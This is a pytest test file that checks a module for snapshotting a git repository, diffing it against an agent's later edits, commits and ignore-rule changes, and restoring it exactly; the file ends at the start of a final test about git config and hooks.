"""Snapshots of real git repositories: take, diff, restore byte for byte, errors.

Every test works on a real repository made in ``tmp_path`` (committed files, untracked
files, ignored files, a binary file, an executable, a symbolic link, an empty directory, a
tracked file deleted from disk) and compares the tree with an independent walk of the disk,
not with the module's own listing.
"""

from __future__ import annotations

import hashlib
import os
import random
import shutil
import stat
import subprocess
import time
from pathlib import Path

import pytest

from pytest_orchestrator.errors import OrchestratorError
from pytest_orchestrator.loop import snapshot as snapshot_module
from pytest_orchestrator.loop.snapshot import (
    ADDED_TEXT_MAX,
    LINK_MODE,
    Snapshot,
    SnapshotError,
    backup,
    dirty_paths,
    git_root,
    is_dirty,
)

pytestmark = pytest.mark.skipif(
    os.name == "nt" or shutil.which("git") is None, reason="needs git and POSIX symlinks"
)

#: What the repository's .gitignore ignores (the independent walk skips the same).
GITIGNORE = ".venv/\nbuild/\n*.log\n"
BIG = random.Random(7).randbytes(3 * (1 << 20) + 17)
UNICODE = "sp ace/ünï.txt"


def ignored(rel: str) -> bool:
    first = rel.split("/")[0]
    return first in (".venv", "build") or rel.endswith(".log")


@pytest.fixture(autouse=True)
def isolated_git(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """No user or system git configuration; no repository above tmp_path."""
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(tmp_path / "no-global-gitconfig"))
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    monkeypatch.setenv("GIT_CEILING_DIRECTORIES", str(tmp_path))
    for name in ("GIT_DIR", "GIT_WORK_TREE", "GIT_INDEX_FILE"):
        monkeypatch.delenv(name, raising=False)


def git(root: Path, *args: str) -> str:
    done = subprocess.run(["git", *args], cwd=root, capture_output=True, check=True)
    return done.stdout.decode()


def init(root: Path) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    git(root, "init", "-q", "-b", "main")
    git(root, "config", "user.email", "dev@example.com")
    git(root, "config", "user.name", "Dev")
    git(root, "config", "commit.gpgsign", "false")
    return root


def write(root: Path, rel: str, data: str | bytes, mode: int | None = None) -> Path:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, str):
        data = data.encode()
    path.write_bytes(data)
    if mode is not None:
        path.chmod(mode)
    return path


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = init(tmp_path / "repo")
    write(root, "README.md", "# Demo\n\nA demo project.\n")
    write(root, ".gitignore", GITIGNORE)
    write(root, "pkg/__init__.py", "")
    write(root, "pkg/mod.py", "".join(f"value_{i} = {i}\n" for i in range(30)))
    write(root, "pkg/sub/deep.py", "def deep():\n    return 1\n")
    write(root, "data.bin", bytes(range(256)) * 64)
    write(root, "big.dat", BIG)
    write(root, "run.sh", "#!/bin/sh\necho hi\n", 0o755)
    write(root, UNICODE, "unicode\n")
    write(root, "gone.txt", "tracked, then deleted before the snapshot\n")
    for i in range(25):
        write(root, f"many/f{i:02}.txt", f"one {i}\ntwo {i}\nthree {i}\n")
    os.symlink("README.md", root / "link.md")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "initial")
    (root / "gone.txt").unlink()
    write(root, "notes.txt", "untracked notes\n")
    write(root, "todo/later.md", "untracked in a directory\n")
    write(root, ".venv/lib/site.py", "# ignored\n")
    write(root, "build/out.o", b"\x7fELF ignored")
    write(root, "app.log", "ignored log\n")
    (root / "empty").mkdir()
    (root / "keep/inner").mkdir(parents=True)
    return root


Entry = tuple[str, bytes | str, int]


def tree(root: Path) -> dict[str, Entry]:
    """Everything on disk but .git and ignored paths: files, links and directories."""
    found: dict[str, Entry] = {}
    for dirpath, dirnames, filenames in os.walk(root):
        base = Path(dirpath)
        rel_dir = base.relative_to(root).as_posix()
        dirnames[:] = [
            d for d in dirnames if d != ".git" and not ignored(f"{rel_dir}/{d}".removeprefix("./"))
        ]
        for name in dirnames:
            path = base / name
            rel = path.relative_to(root).as_posix()
            if path.is_symlink():
                found[rel] = ("link", os.readlink(path), 0)
            else:
                found[rel] = ("dir", b"", stat.S_IMODE(path.lstat().st_mode))
        for name in filenames:
            path = base / name
            rel = path.relative_to(root).as_posix()
            if ignored(rel):
                continue
            if path.is_symlink():
                found[rel] = ("link", os.readlink(path), 0)
            else:
                found[rel] = ("file", path.read_bytes(), stat.S_IMODE(path.lstat().st_mode))
    return found


def ignored_files(root: Path) -> dict[str, bytes]:
    found: dict[str, bytes] = {}
    for top in (root / ".venv", root / "build"):
        for path in top.rglob("*"):
            if path.is_file():
                found[path.relative_to(root).as_posix()] = path.read_bytes()
    for path in root.glob("*.log"):
        found[path.name] = path.read_bytes()
    return found


def git_state(root: Path) -> tuple[str, str, str]:
    head = subprocess.run(
        ["git", "rev-parse", "-q", "--verify", "HEAD"], cwd=root, capture_output=True, text=True
    ).stdout.strip()
    branch = subprocess.run(
        ["git", "symbolic-ref", "-q", "HEAD"], cwd=root, capture_output=True, text=True
    ).stdout.strip()
    return head, branch, git(root, "ls-files", "-z", "--stage")


def assert_restored(
    root: Path,
    snap: Snapshot,
    before: dict[str, Entry],
    state: tuple[str, str, str],
    unrestored: tuple[str, ...] = (),
) -> None:
    """The tree, HEAD, the index and git's own files are as before; ``unrestored``: the
    ignored files the agent changed, which a snapshot cannot put back (never copied)."""
    after = tree(root)
    assert sorted(after) == sorted(before)
    for rel, entry in before.items():
        assert after[rel] == entry, rel
    assert Snapshot.current_hash(root) == snap.tree_hash()
    assert git_state(root) == state
    changes = snap.diff()
    assert [(c.path, c.ignored) for c in changes.changes] == [(p, True) for p in unrestored]
    assert not (changes.head_moved or changes.index_changed or changes.git_files or changes.nested)
    assert [u.split(" (")[0] for u in snap.unrestored] == list(unrestored)


# --------------------------------------------------------------------------- take


def test_take_lists_tracked_and_untracked_files_but_not_ignored_ones(
    repo: Path, tmp_path: Path
) -> None:
    parent = tmp_path / "snapshots"
    parent.mkdir()
    with Snapshot.take(repo, tmp_parent=parent) as snap:
        assert snap.root == repo.resolve()
        assert snap.head == git(repo, "rev-parse", "HEAD").strip()
        assert snap.branch == "refs/heads/main"
        expected = {rel for rel, entry in tree(repo).items() if entry[0] in ("file", "link")}
        assert set(snap.files) == expected
        assert {"notes.txt", "todo/later.md", UNICODE, "link.md"} <= set(snap.files)
        assert "gone.txt" not in snap.files  # tracked, but missing on disk
        assert not any(ignored(p) for p in snap.files)
        readme = snap.files["README.md"]
        content = (repo / "README.md").read_bytes()
        assert readme.digest == hashlib.sha256(content).hexdigest()
        assert readme.size == len(content)
        assert readme.mode == stat.S_IFREG | 0o644 and not readme.is_symlink
        assert snap.files["run.sh"].mode == stat.S_IFREG | 0o755
        link = snap.files["link.md"]
        assert link.mode == LINK_MODE and link.is_symlink
        assert link.digest == hashlib.sha256(b"README.md").hexdigest()
        assert snap.files["big.dat"].size == len(BIG)
        assert snap.tree_hash() == Snapshot.current_hash(repo)
        # The private copy: one directory, owner-only, copies (not links) of the contents.
        (store,) = parent.iterdir()
        assert stat.S_IMODE(store.stat().st_mode) == 0o700
        copy = store / "objects" / snap.files["big.dat"].digest
        assert copy.read_bytes() == BIG
        assert copy.stat().st_ino != (repo / "big.dat").stat().st_ino
    assert list(parent.iterdir()) == []


def test_take_from_a_subdirectory_snapshots_the_whole_tree(repo: Path) -> None:
    with Snapshot.take(repo / "pkg" / "sub") as snap:
        assert snap.root == repo.resolve()
        assert "README.md" in snap.files
    assert git_root(repo / "pkg" / "mod.py") == repo.resolve()


def test_current_hash_follows_content_and_mode(repo: Path) -> None:
    with Snapshot.take(repo) as snap:
        original = snap.tree_hash()
        (repo / "run.sh").chmod(0o644)
        assert Snapshot.current_hash(repo) != original
        (repo / "run.sh").chmod(0o755)
        assert Snapshot.current_hash(repo) == original
        write(repo, "notes.txt", "changed\n")
        assert Snapshot.current_hash(repo) != original
        write(repo, "app.log", "ignored files do not count\n")
        write(repo, "notes.txt", "untracked notes\n")
        assert Snapshot.current_hash(repo) == original


# --------------------------------------------------------------------------- restore


def test_restore_after_edits(repo: Path) -> None:
    before, state = tree(repo), git_state(repo)
    with Snapshot.take(repo) as snap:
        write(repo, "README.md", "rewritten by the agent\n")
        with (repo / "pkg/mod.py").open("a") as handle:
            handle.write("extra = 1\n")
        write(repo, "data.bin", bytes(range(255, -1, -1)) * 64)
        changed = bytearray(BIG)
        changed[(1 << 20) + 5] ^= 0xFF  # one byte in the second chunk; same size
        write(repo, "big.dat", bytes(changed))
        write(repo, "notes.txt", "")
        write(repo, UNICODE, "ünïcode edited\n")
        # The agent also changes ignored files: never copied, they keep the agent's
        # version, and the restore names them.
        write(repo, ".venv/lib/site.py", "# edited by the agent\n")
        write(repo, "app.log", "agent log\n")
        (repo / ".venv/lib").chmod(0o700)
        assert Snapshot.current_hash(repo) != snap.tree_hash()
        snap.restore()
        assert_restored(repo, snap, before, state, unrestored=(".venv/lib/site.py", "app.log"))
        assert snap.unrestored == [".venv/lib/site.py (changed)", "app.log (changed)"]
    assert (repo / ".venv/lib/site.py").read_text() == "# edited by the agent\n"
    assert (repo / "app.log").read_text() == "agent log\n"
    assert stat.S_IMODE((repo / ".venv/lib").stat().st_mode) == 0o700


def test_restore_after_deleting_20_files(repo: Path) -> None:
    before, state = tree(repo), git_state(repo)
    ignored_before = ignored_files(repo)
    with Snapshot.take(repo) as snap:
        for i in range(20):
            (repo / f"many/f{i:02}.txt").unlink()
        for rel in ("notes.txt", "run.sh", "link.md", "data.bin", "todo/later.md"):
            (repo / rel).unlink()
        shutil.rmtree(repo / "pkg")
        git(repo, "rm", "-q", "--cached", "many/f24.txt")
        changes = snap.diff()
        assert len(changes.deleted) == 28
        assert changes.index_changed and not changes.head_moved
        snap.restore()
        assert_restored(repo, snap, before, state)
        assert os.access(repo / "run.sh", os.X_OK)
        assert (repo / "link.md").is_symlink()
    assert ignored_files(repo) == ignored_before


def test_restore_removes_added_files_and_new_directories(repo: Path) -> None:
    before, state = tree(repo), git_state(repo)
    with Snapshot.take(repo) as snap:
        write(repo, "new.py", "print('new')\n")
        write(repo, "pkg/extra.py", "x = 1\n")
        write(repo, "newdir/a/b/c.py", "deep\n")
        write(repo, "empty/agent.txt", "in a directory that was empty\n")
        write(repo, "keep/inner/more/x.txt", "x\n")
        write(repo, "gone.txt", "recreated by the agent\n")  # tracked, absent at take
        (repo / "scratch/nothing").mkdir(parents=True)  # new, empty
        # New ignored files: seen and removed too.
        write(repo, ".venv/new.txt", "ignored\n")
        write(repo, "build/new/out.o", b"ignored")
        write(repo, "new.log", "ignored\n")
        write(repo, "newdir/a/more.log", "ignored, in a new directory\n")
        (repo / ".venv/agent-empty").mkdir()
        (repo / ".git/agent-empty").mkdir()  # .git's own directory: not a git item of ours
        changes = snap.diff()
        assert set(changes.added) == {
            "new.py",
            "pkg/extra.py",
            "newdir/a/b/c.py",
            "empty/agent.txt",
            "keep/inner/more/x.txt",
            "gone.txt",
        }
        assert [(c.path, c.kind) for c in changes.hidden] == [
            (".venv/new.txt", "added"),
            ("build/new/out.o", "added"),
            ("new.log", "added"),
            ("newdir/a/more.log", "added"),
        ]
        snap.restore()
        assert_restored(repo, snap, before, state)
    assert (repo / "empty").is_dir() and not any((repo / "empty").iterdir())
    assert (repo / "keep/inner").is_dir() and not any((repo / "keep/inner").iterdir())
    assert not (repo / "scratch").exists()
    assert not (repo / "newdir/a/b").exists()
    assert not (repo / "gone.txt").exists()
    for rel in (".venv/new.txt", "build/new", "new.log", "newdir", ".venv/agent-empty"):
        assert not os.path.lexists(repo / rel), rel
    assert (repo / ".git/agent-empty").is_dir()
    assert (repo / "build/out.o").exists() and (repo / ".venv/lib/site.py").exists()


def test_restore_modes(repo: Path) -> None:
    before, state = tree(repo), git_state(repo)
    with Snapshot.take(repo) as snap:
        (repo / "run.sh").chmod(0o644)
        (repo / "README.md").chmod(0o755)
        (repo / "notes.txt").chmod(0o600)
        (repo / "pkg").chmod(0o700)
        (repo / "empty").chmod(0o500)
        changes = snap.diff()
        assert {c.path for c in changes.changes} == {"run.sh", "README.md", "notes.txt"}
        assert all(
            c.kind == "modified" and c.lines_added == c.lines_removed == 0 for c in changes.changes
        )
        snap.restore()
        assert_restored(repo, snap, before, state)
    assert stat.S_IMODE((repo / "run.sh").stat().st_mode) == 0o755
    assert stat.S_IMODE((repo / "pkg").stat().st_mode) == before["pkg"][2]


def test_restore_type_changes_without_writing_through_links(repo: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    write(outside, "f00.txt", "outside the repository\n")
    outside_before = {p.name: p.read_bytes() for p in outside.iterdir()}
    before, state = tree(repo), git_state(repo)
    with Snapshot.take(repo) as snap:
        (repo / "README.md").unlink()
        os.symlink("pkg/mod.py", repo / "README.md")  # a file becomes a link
        (repo / "link.md").unlink()
        write(repo, "link.md", "a link becomes a file\n")
        (repo / "pkg/mod.py").unlink()
        write(repo, "pkg/mod.py/inner.py", "a file becomes a directory\n")
        write(repo, "pkg/mod.py/__pycache__/x.pyc", b"\0ignored? no: a new directory")
        shutil.rmtree(repo / "many")
        os.symlink(outside, repo / "many")  # a directory becomes a link to elsewhere
        shutil.rmtree(repo / "sp ace")
        write(repo, "sp ace", "a directory becomes a file\n")
        kinds = {c.path: c.kind for c in snap.diff().changes}
        assert kinds["README.md"] == "modified" and kinds["link.md"] == "modified"
        assert kinds["many/f00.txt"] == "deleted"  # behind a link: not ours any more
        snap.restore()
        assert_restored(repo, snap, before, state)
    assert {p.name: p.read_bytes() for p in outside.iterdir()} == outside_before
    assert (repo / "many").is_dir() and not (repo / "many").is_symlink()
    assert (repo / "link.md").is_symlink()


def test_restore_after_agent_commits(repo: Path) -> None:
    before, state = tree(repo), git_state(repo)
    status = git(repo, "status", "--porcelain", "-z")
    assert status  # gone.txt deleted, untracked files
    with Snapshot.take(repo) as snap:
        write(repo, "README.md", "committed by the agent\n")
        write(repo, "agent.py", "x = 1\n")
        (repo / "many/f03.txt").unlink()
        git(repo, "add", "-A")
        git(repo, "commit", "-q", "-m", "agent 1")
        write(repo, "agent.py", "x = 2\n")
        git(repo, "commit", "-q", "-am", "agent 2")
        agent_commit = git(repo, "rev-parse", "HEAD").strip()
        changes = snap.diff()
        assert changes.head_moved and changes.index_changed
        assert not changes.empty
        snap.restore()
        assert_restored(repo, snap, before, state)
    assert not (repo / "agent.py").exists()
    # Soft: the agent's commit is not destroyed, only no longer on the branch.
    git(repo, "cat-file", "-e", f"{agent_commit}^{{commit}}")
    assert agent_commit in git(repo, "reflog", "--format=%H", "main")
    assert git(repo, "status", "--porcelain", "-z") == status


def test_restore_after_checkout_of_another_branch_and_hard_reset(repo: Path) -> None:
    git(repo, "commit", "-q", "--allow-empty", "-m", "second")
    before, state = tree(repo), git_state(repo)
    with Snapshot.take(repo) as snap:
        git(repo, "stash", "-q", "-u")  # the agent hides the untracked work...
        git(repo, "checkout", "-q", "-b", "agent")
        write(repo, "on_branch.py", "y = 1\n")
        git(repo, "add", "on_branch.py")
        git(repo, "commit", "-q", "-m", "agent branch")
        git(repo, "branch", "-f", "main", "HEAD~2")  # ...and moves main back
        assert snap.diff().head_moved
        snap.restore()
        assert_restored(repo, snap, before, state)
    assert git(repo, "symbolic-ref", "HEAD").strip() == "refs/heads/main"
    assert (repo / "notes.txt").read_text() == "untracked notes\n"


def test_restore_detached_head(repo: Path) -> None:
    git(repo, "checkout", "-q", "--detach")
    before, state = tree(repo), git_state(repo)
    with Snapshot.take(repo) as snap:
        assert snap.branch is None and snap.head is not None
        git(repo, "checkout", "-q", "main")
        git(repo, "commit", "-q", "--allow-empty", "-m", "on main")
        snap.restore()
        assert_restored(repo, snap, before, state)


def test_restore_in_a_repository_without_commits(tmp_path: Path) -> None:
    root = init(tmp_path / "fresh")
    write(root, "a.py", "a = 1\n")
    write(root, "b.py", "b = 1\n")
    git(root, "add", "a.py")  # staged, not committed
    before, state = tree(root), git_state(root)
    with Snapshot.take(root) as snap:
        assert snap.head is None and snap.branch == "refs/heads/main"
        write(root, "a.py", "a = 2\n")
        git(root, "add", "-A")
        git(root, "commit", "-q", "-m", "the agent's first commit")
        changes = snap.diff()
        assert changes.head_moved and changes.index_changed
        snap.restore()
        assert_restored(root, snap, before, state)
    assert git_state(root)[0] == ""  # no commit again
    assert git(root, "ls-files").split() == ["a.py"]


def test_restore_in_a_repository_without_an_index(tmp_path: Path) -> None:
    root = init(tmp_path / "bare-index")
    write(root, "a.py", "a = 1\n")
    index = root / ".git" / "index"
    assert not index.exists()
    before, state = tree(root), git_state(root)
    with Snapshot.take(root) as snap:
        git(root, "add", "a.py")
        assert index.exists()
        snap.restore()
        assert_restored(root, snap, before, state)
    assert not index.exists()


def test_restore_staged_changes_only(repo: Path) -> None:
    before, state = tree(repo), git_state(repo)
    with Snapshot.take(repo) as snap:
        git(repo, "add", "notes.txt")
        git(repo, "rm", "-q", "--cached", "README.md")
        changes = snap.diff()
        assert changes.changes == [] and changes.index_changed and not changes.head_moved
        assert not changes.empty
        snap.restore()
        assert_restored(repo, snap, before, state)


def test_ignore_rules_changed_by_the_agent(repo: Path) -> None:
    before, state = tree(repo), git_state(repo)
    with Snapshot.take(repo) as snap:
        # The agent hides a new file from git, and un-ignores .venv.
        write(repo, ".gitignore", "build/\n*.log\nhidden.txt\n")
        write(repo, "hidden.txt", "hidden by the agent\n")
        exclude = repo / ".git/info/exclude"
        exclude.write_text(exclude.read_text() + "excluded.txt\n")
        write(repo, "excluded.txt", "excluded by the agent\n")
        write(repo, ".venv/lib/new.py", "# made while .venv was not ignored\n")
        snap.restore()
        assert_restored(repo, snap, before, state)
    assert not (repo / "hidden.txt").exists()
    assert not (repo / "excluded.txt").exists()
    assert "excluded.txt" not in (repo / ".git/info/exclude").read_text()
    # Ignored at the snapshot: never deleted, even while the agent had un-ignored them;
    # what the agent made there is.
    assert (repo / ".venv/lib/site.py").read_text() == "# ignored\n"
    assert not (repo / ".venv/lib/new.py").exists()


def test_restore_leaves_matching_files_alone_and_can_run_twice(repo: Path) -> None:
    before, state = tree(repo), git_state(repo)
    with Snapshot.take(repo) as snap:
        untouched = (repo / "pkg/mod.py").stat()
        write(repo, "README.md", "edit\n")
        snap.restore()
        snap.restore()
        assert_restored(repo, snap, before, state)
        again = (repo / "pkg/mod.py").stat()
        assert (again.st_ino, again.st_mtime_ns) == (untouched.st_ino, untouched.st_mtime_ns)


def test_restore_reports_what_it_could_not_put_back(repo: Path) -> None:
    before, state = tree(repo), git_state(repo)
    with Snapshot.take(repo) as snap:
        write(repo, "README.md", "edit\n")
        git(repo, "add", "README.md")
        lock = repo / ".git/index.lock"
        lock.write_bytes(b"")  # a git command of the agent still running
        with pytest.raises(SnapshotError, match=r"the index \(.*index\.lock exists") as info:
            snap.restore()
        assert isinstance(info.value, OrchestratorError)
        assert "\n" not in str(info.value)
        # Everything else was put back regardless.
        assert (repo / "README.md").read_text() == "# Demo\n\nA demo project.\n"
        lock.unlink()
        snap.restore()
        assert_restored(repo, snap, before, state)


@pytest.mark.skipif(os.name != "posix" or os.geteuid() == 0, reason="root ignores modes")
def test_restore_through_directories_the_agent_made_read_only(repo: Path) -> None:
    before, state = tree(repo), git_state(repo)
    with Snapshot.take(repo) as snap:
        write(repo, "pkg/mod.py", "edited\n")
        write(repo, "pkg/new.py", "added\n")
        (repo / "many/f01.txt").unlink()
        write(repo, "newdir/x.py", "added in a new directory\n")
        for rel in ("pkg", "many", "newdir", "."):
            (repo / rel).chmod(0o555)
        try:
            snap.restore()
            assert_restored(repo, snap, before, state)
        finally:  # let tmp_path be cleaned up whatever happened
            for rel in ("pkg", "many", "newdir", "."):
                if (repo / rel).exists() and not os.access(repo / rel, os.W_OK):
                    (repo / rel).chmod(0o755)


@pytest.mark.skipif(os.name != "posix" or os.geteuid() == 0, reason="root reads anything")
def test_files_the_agent_made_unreadable(repo: Path) -> None:
    before, state = tree(repo), git_state(repo)
    with Snapshot.take(repo) as snap:
        (repo / "README.md").chmod(0)
        write(repo, "secret.txt", "unreadable\n", 0)
        by_path = {c.path: c for c in snap.diff().changes}
        assert (by_path["README.md"].kind, by_path["README.md"].binary) == ("modified", True)
        assert (by_path["secret.txt"].kind, by_path["secret.txt"].binary) == ("added", True)
        with pytest.raises(SnapshotError, match=r"cannot read README\.md"):
            Snapshot.current_hash(repo)
        snap.restore()
        assert_restored(repo, snap, before, state)


def test_snapshot_is_independent_of_git_objects(repo: Path) -> None:
    """Untracked content is restored from the private copy (git never had it)."""
    before, state = tree(repo), git_state(repo)
    with Snapshot.take(repo) as snap:
        shutil.rmtree(repo / "todo")
        (repo / "notes.txt").unlink()
        git(repo, "gc", "-q", "--prune=now")
        snap.restore()
        assert_restored(repo, snap, before, state)


# --------------------------------------------------------------------------- diff


def test_diff_counts(repo: Path) -> None:
    with Snapshot.take(repo) as snap:
        assert snap.diff().empty
        lines = (repo / "pkg/mod.py").read_text().splitlines(keepends=True)
        lines[3] = "value_3 = 'three'\n"
        lines[10] = "value_10 = 'ten'\n"
        lines[20:20] = ["added_1 = 1\n", "added_2 = 2\n", "added_3 = 3\n"]
        write(repo, "pkg/mod.py", "".join(lines))
        write(repo, "new.py", "a\nb\nc\nd")  # four lines, the last unterminated
        (repo / "many/f00.txt").unlink()
        write(repo, "data.bin", b"\0\1\2")
        (repo / "run.sh").chmod(0o644)
        write(repo, "app.log", "ignored: in the diff by its metadata only\n")
        changes = snap.diff()
        by_path = {c.path: c for c in changes.changes}
        assert [c.path for c in changes.changes] == sorted(by_path)
        assert set(by_path) == {
            "pkg/mod.py",
            "new.py",
            "many/f00.txt",
            "data.bin",
            "run.sh",
            "app.log",
        }
        log = by_path.pop("app.log")
        assert (log.kind, log.ignored, log.lines_added, log.added_text) == ("modified", True, 0, "")
        mod = by_path["pkg/mod.py"]
        assert (mod.kind, mod.lines_added, mod.lines_removed, mod.binary) == (
            "modified",
            5,
            2,
            False,
        )
        assert mod.added_text == (
            "value_3 = 'three'\nvalue_10 = 'ten'\nadded_1 = 1\nadded_2 = 2\nadded_3 = 3\n"
        )
        new = by_path["new.py"]
        assert (new.kind, new.lines_added, new.lines_removed) == ("added", 4, 0)
        assert new.added_text == "a\nb\nc\nd"
        gone = by_path["many/f00.txt"]
        assert (gone.kind, gone.lines_added, gone.lines_removed) == ("deleted", 0, 3)
        data = by_path["data.bin"]
        assert (data.kind, data.binary, data.lines_added, data.lines_removed) == (
            "modified",
            True,
            0,
            0,
        )
        assert (by_path["run.sh"].lines_added, by_path["run.sh"].lines_removed) == (0, 0)
        assert changes.added == ["new.py"]
        assert changes.deleted == ["many/f00.txt"]
        assert changes.modified == ["data.bin", "pkg/mod.py", "run.sh"]
        assert (changes.lines_added, changes.lines_removed) == (9, 5)
        assert not changes.head_moved and not changes.index_changed and not changes.empty
        assert "" not in changes.packages_before and "pkg" in changes.packages_before


def test_diff_of_links_and_type_changes(repo: Path) -> None:
    with Snapshot.take(repo) as snap:
        (repo / "link.md").unlink()
        os.symlink("pkg/mod.py", repo / "link.md")
        (repo / "notes.txt").unlink()
        os.symlink("README.md", repo / "notes.txt")
        by_path = {c.path: c for c in snap.diff().changes}
        assert (by_path["link.md"].lines_added, by_path["link.md"].lines_removed) == (1, 1)
        assert by_path["link.md"].added_text == "pkg/mod.py"
        assert by_path["notes.txt"].kind == "modified"


def test_diff_caps_added_text(repo: Path) -> None:
    with Snapshot.take(repo) as snap:
        write(repo, "huge.sql", "-- filler line\n" * 10_000 + "ALTER TABLE x;\n")
        change = snap.diff().changes[0]
        assert change.lines_added == 10_001
        assert len(change.added_text) == ADDED_TEXT_MAX
        assert change.added_text.startswith("-- filler line\n")


def test_diff_of_large_files_counts_whole_files(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(snapshot_module, "DIFF_MAX", 100)
    with Snapshot.take(repo) as snap:
        write(repo, "pkg/mod.py", (repo / "pkg/mod.py").read_text() + "tail = 1")
        write(repo, "big.dat", BIG[:-1])
        by_path = {c.path: c for c in snap.diff().changes}
        mod = by_path["pkg/mod.py"]
        assert (mod.lines_added, mod.lines_removed, mod.binary) == (31, 30, False)
        assert mod.added_text.startswith("value_0 = 0\n")
        assert mod.added_text.endswith("tail = 1")
        assert by_path["big.dat"].binary


def test_diff_of_long_middles_matches_lines_as_a_multiset(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(snapshot_module, "_MATCH_MAX", 4)
    with Snapshot.take(repo) as snap:
        lines = (repo / "pkg/mod.py").read_text().splitlines(keepends=True)
        lines[2], lines[25] = "changed_2\n", "changed_25\n"
        lines.insert(10, lines.pop(20))  # a moved line: not counted as a multiset
        write(repo, "pkg/mod.py", "".join(lines))
        (change,) = snap.diff().changes
        assert (change.lines_added, change.lines_removed) == (2, 2)
        assert change.added_text == "changed_2\nchanged_25\n"


# --------------------------------------------------------------------------- is_dirty, errors


def test_is_dirty(repo: Path, tmp_path: Path) -> None:
    clean = init(tmp_path / "clean")
    write(clean, ".gitignore", "*.log\n")
    write(clean, "a.py", "a = 1\n")
    git(clean, "add", "-A")
    git(clean, "commit", "-q", "-m", "c")
    assert not is_dirty(clean)
    write(clean, "ignored.log", "ignored files do not count\n")
    assert not is_dirty(clean)
    write(clean, "new.py", "untracked\n")
    assert is_dirty(clean)
    (clean / "new.py").unlink()
    write(clean, "a.py", "a = 2\n")
    assert is_dirty(clean)
    git(clean, "add", "a.py")
    assert is_dirty(clean)  # staged
    git(clean, "commit", "-q", "-m", "c2")
    assert not is_dirty(clean / "a.py")
    (clean / "a.py").unlink()
    assert is_dirty(clean)
    assert is_dirty(repo)


def test_inspecting_does_not_write_the_index(repo: Path) -> None:
    """git status refreshes a stale index when it may: ours must not touch the repository."""
    index = repo / ".git/index"
    for path in (repo / "many").iterdir():
        os.utime(path, ns=(1, 1))  # stale stat information in the index
    content = index.read_bytes()
    assert is_dirty(repo)
    with Snapshot.take(repo) as snap:
        snap.diff()
        snap.restore()
    assert index.read_bytes() == content


def test_errors_outside_a_git_repository(tmp_path: Path) -> None:
    plain = tmp_path / "plain"
    write(plain, "a.py", "a = 1\n")
    for call in (
        lambda: git_root(plain),
        lambda: Snapshot.take(plain),
        lambda: is_dirty(plain),
        lambda: Snapshot.current_hash(plain),
    ):
        with pytest.raises(SnapshotError, match=r"^not a git repository: .*run git init$"):
            call()
    with pytest.raises(SnapshotError, match="no such file or directory"):
        git_root(tmp_path / "missing")


def test_git_missing(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", str(repo / "nowhere"))
    with pytest.raises(SnapshotError, match="git not found"):
        Snapshot.take(repo)


def test_discard_and_context_manager(repo: Path, tmp_path: Path) -> None:
    parent = tmp_path / "snapshots"
    parent.mkdir()
    snap = Snapshot.take(repo, tmp_parent=parent)
    assert len(list(parent.iterdir())) == 1
    snap.discard()
    snap.discard()
    assert list(parent.iterdir()) == []
    for call in (snap.diff, snap.restore):
        with pytest.raises(SnapshotError, match="discarded"):
            call()
    with pytest.raises(RuntimeError), Snapshot.take(repo, tmp_parent=parent):
        assert len(list(parent.iterdir())) == 1
        raise RuntimeError
    assert list(parent.iterdir()) == []


def test_a_failed_take_leaves_no_copy(
    repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    parent = tmp_path / "snapshots"
    parent.mkdir()
    real = snapshot_module._state

    def failing(root: Path, rel: str, *args: object) -> object:
        if rel == "README.md":
            raise PermissionError(13, "Permission denied")
        return real(root, rel, *args)  # type: ignore[arg-type]

    monkeypatch.setattr(snapshot_module, "_state", failing)
    with pytest.raises(SnapshotError, match=r"cannot snapshot README\.md \(Permission denied\)"):
        Snapshot.take(repo, tmp_parent=parent)
    assert list(parent.iterdir()) == []


@pytest.mark.serial
def test_ten_thousand_files_snapshot_quickly(tmp_path: Path) -> None:
    root = init(tmp_path / "large")
    for d in range(100):
        directory = root / f"d{d:03}"
        directory.mkdir()
        for f in range(100):
            (directory / f"f{f:03}.py").write_text(f"x = {d * 100 + f}\n")
    started = time.perf_counter()
    with Snapshot.take(root) as snap:
        took = time.perf_counter() - started
        assert len(snap.files) == 10_000
        (root / "d000/f000.py").write_text("changed\n")
        snap.restore()
        assert Snapshot.current_hash(root) == snap.tree_hash()
    assert took < 10, f"10,000 files took {took:.1f} s to snapshot"


def test_files_ignored_at_the_snapshot_are_never_deleted(tmp_path: Path) -> None:
    """A virtualenv ignores itself (``.venv/.gitignore`` holds ``*``); that file is ignored
    too, but it decides what is ignored, so the snapshot copies it: when the agent empties
    it, the environment's files look untracked, must still not be deleted, and the file
    is put back; what the agent added there is removed."""
    root = init(tmp_path / "venv-repo")
    write(root, "app.py", "x = 1\n")
    write(root, ".venv/.gitignore", "*\n")
    write(root, ".venv/lib/site.py", "# the user's environment\n")
    write(root, ".venv/empty-dir/.keep", "")
    before, state = tree(root), git_state(root)
    assert "app.py" in before and not any(p.startswith(".venv") for p in before)
    with Snapshot.take(root) as snap:
        assert set(snap.files) == {"app.py"}
        assert snap.read(".venv/.gitignore") == b"*\n"
        write(root, ".venv/.gitignore", "")
        write(root, ".venv/agent.py", "# made by the agent while .venv was not ignored\n")
        changes = snap.diff()
        assert ".venv/lib/site.py" not in changes.added  # the user's, unchanged
        assert ".venv/agent.py" in changes.added
        assert (".venv/.gitignore", "modified", True) in [
            (c.path, c.kind, c.ignored) for c in changes.changes
        ]
        snap.restore()
        assert_restored(root, snap, before, state)
        assert (root / "app.py").read_text() == "x = 1\n"
    assert (root / ".venv/.gitignore").read_text() == "*\n"
    assert (root / ".venv/lib/site.py").read_text() == "# the user's environment\n"
    assert (root / ".venv/empty-dir/.keep").exists()
    assert not (root / ".venv/agent.py").exists()


def test_git_config_and_hooks_are_guarded_and_restored(repo: Path) -> None:
